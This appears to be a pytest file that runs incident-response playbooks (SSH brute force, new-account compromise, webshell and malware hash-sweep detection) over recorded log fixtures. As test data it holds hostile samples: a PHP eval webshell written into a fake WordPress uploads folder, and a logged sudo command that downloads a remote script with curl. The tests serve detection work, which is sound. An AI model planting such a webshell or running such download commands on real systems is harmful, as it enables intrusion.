"""Library playbooks run step by step with the real tools (local transport) over recorded log fixtures."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from playbooks.runtime import (
    bind_inputs,
    condition_holds,
    extract_findings,
    fanout_items,
    find_playbook,
    load_playbook,
    resolve_args,
)
from tools.base import ToolContext
from tools.errors import ToolError
from tools.inventory import HostProfile
from tools.registry import get_tool
from tools.transport.local import LocalTransport

from .conftest import FIXTURES


def drive(playbook_id: str, catalogue, profile: HostProfile, raw_inputs: dict[str, str]):
    """Run a playbook the way the runtime docs describe (all approved); returns findings and path."""
    pb = load_playbook(find_playbook(playbook_id), catalogue=catalogue)
    inputs = bind_inputs(pb, raw_inputs)
    ctx = ToolContext(transport=LocalTransport(), profile=profile)
    findings: dict[str, list[str]] = {}
    path: list[str] = []
    for step in pb.steps:
        if not condition_holds(step, findings):
            path.append(f"skip:{step.id}")
            continue
        items = fanout_items(step, findings)
        for item in [None] if items is None else items:
            tool = get_tool(step.tool)
            args = tool.parse_args(resolve_args(step, inputs, findings, item))
            try:
                result = tool.run(args, ctx)
            except ToolError as exc:  # the graph turns this into an observation; the run goes on
                path.append(f"error:{step.id}:{type(exc).__name__}")
                continue
            for value in extract_findings(step, result.rows):
                bucket = findings.setdefault(value.finding, [])
                if value.value not in bucket:
                    bucket.append(value.value)
        path.append(f"ran:{step.id}")
    return findings, path


def test_ssh_bruteforce_on_recorded_auth_log(catalogue, tmp_path):
    auth = tmp_path / "auth.log"
    shutil.copy(FIXTURES / "auth.log", auth)
    profile = HostProfile(log_paths={"auth": (str(auth),)})
    findings, path = drive("linux.ssh.bruteforce", catalogue, profile, {})
    assert findings["sources"] == ["203.0.113.45", "198.51.100.23"]
    assert set(findings["targeted_users"]) == {"admin", "root", "deploy"}
    assert findings["invalid_sources"] == ["203.0.113.45"]
    assert findings["compromised_users"] == ["deploy"]  # alice logged in from a clean address: not listed
    assert findings["intrusion_sources"] == ["198.51.100.23"]
    assert findings["sudo_commands"] == ["/usr/bin/curl -fsSL http://203.0.113.77/k.sh -o /tmp/k.sh"]
    assert path[:4] == ["ran:failed_logins", "ran:accepted_logins", "ran:attacker_logins", "ran:after_login"]


def test_account_compromise_finds_the_new_user(catalogue, tmp_path):
    auth = tmp_path / "auth.log"
    shutil.copy(FIXTURES / "auth.log", auth)
    profile = HostProfile(log_paths={"auth": (str(auth),)})
    findings, path = drive("linux.account.compromise", catalogue, profile, {})
    assert findings["sudo_users"] == ["deploy"]
    assert findings["new_accounts"] == ["sysupdate"]
    assert "ran:new_account_activity" in path


def test_webshell_on_recorded_access_log(catalogue, tmp_path):
    access = tmp_path / "access.log"
    shutil.copy(FIXTURES / "access.log", access)
    root = tmp_path / "www"
    shell = root / "wp-content" / "uploads" / "2026" / "11" / "thumb.php"
    shell.parent.mkdir(parents=True)
    shell.write_text("<?php @eval($_POST['c']); ?>\n")
    profile = HostProfile(log_paths={"web_access": (str(access),)})
    findings, path = drive(
        "web.webshell", catalogue, profile, {"web_root": str(root), "changed_within": "1d"}
    )
    shell_url = "/wp-content/uploads/2026/11/thumb.php"
    assert findings["shell_scripts"] == [shell_url]
    assert findings["shell_commands"] == ["id", "uname -a"]  # decoded from ?c=id and ?cmd=uname+-a
    assert findings["shell_clients"] == ["203.0.113.9", "198.51.100.4"]
    assert findings["posted_scripts"] == [shell_url, "/contact.php"]
    assert findings["scanner_clients"] == ["203.0.113.9"] and findings["scanner_tools"] == ["Nikto", "sqlmap"]
    assert findings["tool_clients"] == ["203.0.113.9", "198.51.100.4"]  # python-requests, curl
    assert findings["exploited_scripts"] == [shell_url]  # a scripted client POSTed to it
    assert "198.51.100.4" in findings["shell_script_clients"]
    assert findings["changed_files"] == [str(shell)]
    assert findings["webshell_code"] == ["eval($_POST['c'])"]
    assert len(findings["changed_sha256"]) == 1
    assert "dropped_names" not in findings  # no command wrote a file
    skipped = ["skip:find_dropped", "skip:read_dropped", "skip:hash_dropped"]
    assert path[-6:-1] == ["ran:read_changed", "ran:hash_changed", *skipped]


@pytest.mark.parametrize("playbook_id", ["linux.malware.hash_sweep"])
def test_hash_sweep_on_a_planted_tree(catalogue, tmp_path, playbook_id):
    hidden = tmp_path / ".ICE-unix" / ".x"
    hidden.mkdir(parents=True)
    (hidden / "kdevtmpfsi").write_bytes(b"\x7fELF payload")
    findings, path = drive(playbook_id, catalogue, HostProfile(), {"roots": str(tmp_path)})
    assert findings["candidate_files"] == [str(hidden / "kdevtmpfsi")]
    assert {str(tmp_path / ".ICE-unix"), str(hidden)} <= set(findings["hidden_paths"])
    assert len(findings["file_sha256"]) == 1 and len(findings["file_md5"]) == 1
    assert Path(findings["candidate_files"][0]).is_file() and "ran:hash_candidates" in path
